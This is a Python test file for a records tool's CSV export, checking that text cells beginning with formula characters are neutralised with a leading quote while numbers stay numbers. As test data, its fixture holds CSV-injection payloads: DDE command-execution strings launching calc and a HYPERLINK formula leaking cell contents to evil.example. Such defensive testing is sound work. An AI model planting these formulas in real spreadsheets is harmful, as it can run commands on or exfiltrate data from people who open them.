"""Issue 24, "Input that cannot leak or trick": CSV output (`svt export`, `svt list --format
csv`, `svt results --format csv`, and every other --format csv) neutralises text cells that
start with =, +, -, @, tab or CR by a single quote before them, as OWASP's CSV Injection page
describes, so no spreadsheet runs a record's text as a formula. Numbers stay numbers: -9.0
written as a number is not text (and text that is a plain number, such as "-5", is a number to
a spreadsheet too, with no formula in it)."""
from __future__ import annotations

import csv
import io
import math
import re

import pytest
from hypothesis import given, settings, strategies as st

from svt_records import Database
from svt_records.cli.render import to_csv

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")
ATTACKS = {
    "manufacturer": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "location": "=cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "serial": "+1+cmd|' /C calc'!A0",
    "asset-tag": "-2+3+cmd|' /C calc'!A0",
}


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def safe(cell: str) -> bool:
    """What a spreadsheet will not read as a formula."""
    return not cell.startswith(DANGEROUS) or bool(NUMBER.fullmatch(cell))


def assert_safe(text: str) -> list[list[str]]:
    rows = parse(text)
    for row in rows:
        for cell in row:
            assert safe(cell), (cell, text)
    return rows


@pytest.fixture
def store(db: Database, svt) -> Database:
    args = [a for field, value in ATTACKS.items() for a in (f"--{field}", value)]
    svt("add", "--id", "M1", "--type", "module", *args, "--attr", "tag=@evil", "--attr",
        "offset=-5")
    svt("add", "--id", "M2", "--type", "module", "--location", "Clean Room")
    svt("test", "M1", "--type", "iv_curve", "--voltage", "60", "--temp", "-9.0",
        "--measure", "delta=-3", "--pass", "--tested-by", "=HYPERLINK(\"http://x\")",
        "--notes", "-1+cmd|' /C calc'!A0")
    svt("connect", "M1", "M2", "--type", "=cmd|' /C calc'!A0")
    return db


def column(rows: list[list[str]], name: str, row_id: str = "M1") -> str:
    header = rows[0]
    row = next(r for r in rows[1:] if r[0] == row_id)
    return row[header.index(name)]


def test_export_csv_neutralises_formulas_and_keeps_numbers(store, svt):
    rows = assert_safe(svt("export", "--format", "csv").stdout)
    assert column(rows, "manufacturer") == "'" + ATTACKS["manufacturer"]
    assert column(rows, "location") == "'" + ATTACKS["location"]
    assert column(rows, "notes") == "'" + ATTACKS["notes"]
    assert column(rows, "serial_number") == "'" + ATTACKS["serial"]
    assert column(rows, "asset_tag") == "'" + ATTACKS["asset-tag"]
    assert column(rows, "attr.tag") == "'@evil"
    assert column(rows, "attr.offset") == "-5"  # a number: stays one
    assert column(rows, "location", "M2") == "Clean Room"  # ordinary text as it was


def test_export_to_a_file_is_neutralised_too(store, svt, tmp_path):
    out = tmp_path / "components.csv"
    svt("export", "--format", "csv", "--output", str(out))
    rows = assert_safe(out.read_text(encoding="utf-8"))
    assert column(rows, "location") == "'" + ATTACKS["location"]


def test_list_csv_neutralises_formulas(store, svt):
    rows = assert_safe(svt("list", "--format", "csv").stdout)
    assert column(rows, "location") == "'" + ATTACKS["location"]


def test_results_csv_neutralises_text_and_keeps_negative_numbers(store, svt):
    rows = assert_safe(svt("results", "--type", "iv_curve", "--format", "csv").stdout)
    assert column(rows, "tested_by") == "'=HYPERLINK(\"http://x\")"
    assert float(column(rows, "temperature [C]")) == -9.0  # a number, read as one
    assert column(rows, "delta") == "-3"


def test_other_csv_listings_are_neutralised(store, svt):
    rows = assert_safe(svt("connections", "M1", "--format", "csv").stdout)
    assert column(rows, "type", rows[1][0]) == "'=cmd|' /C calc'!A0"
    assert_safe(svt("positions", "--format", "csv").stdout)


def test_the_json_output_keeps_the_text_as_it_is(store, svt):
    import json
    record = json.loads(svt("show", "M1", "--format", "json").stdout)["component"]
    assert record["location"] == ATTACKS["location"]


# ---- the rule itself ---------------------------------------------------------------------

cells = st.one_of(
    st.text(), st.sampled_from(DANGEROUS).flatmap(lambda c: st.text().map(c.__add__)),
    st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.booleans(), st.none(),
    st.from_regex(NUMBER, fullmatch=True))


@settings(max_examples=500, deadline=None)
@given(st.lists(cells, min_size=1, max_size=6))
def test_any_cell_reads_back_spreadsheet_safe_and_numbers_stay_numbers(row):
    back = parse(to_csv([row], [f"c{i}" for i in range(len(row))]))
    assert len(back) == 2 and len(back[1]) == len(row)
    for value, cell in zip(row, back[1]):
        assert safe(cell), (value, cell)
        if value is None:
            assert cell == ""
        elif isinstance(value, bool):
            assert cell == str(value)
        elif isinstance(value, (int, float)):  # numbers stay numbers, negative ones too
            assert float(cell) == value or math.isclose(float(cell), value)
            assert not cell.startswith("'")
        elif not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", value):
            assert cell in (value, "'" + value)  # the text itself, or quoted before
            assert (cell != value) == (value.startswith(DANGEROUS)
                                       and not NUMBER.fullmatch(value))
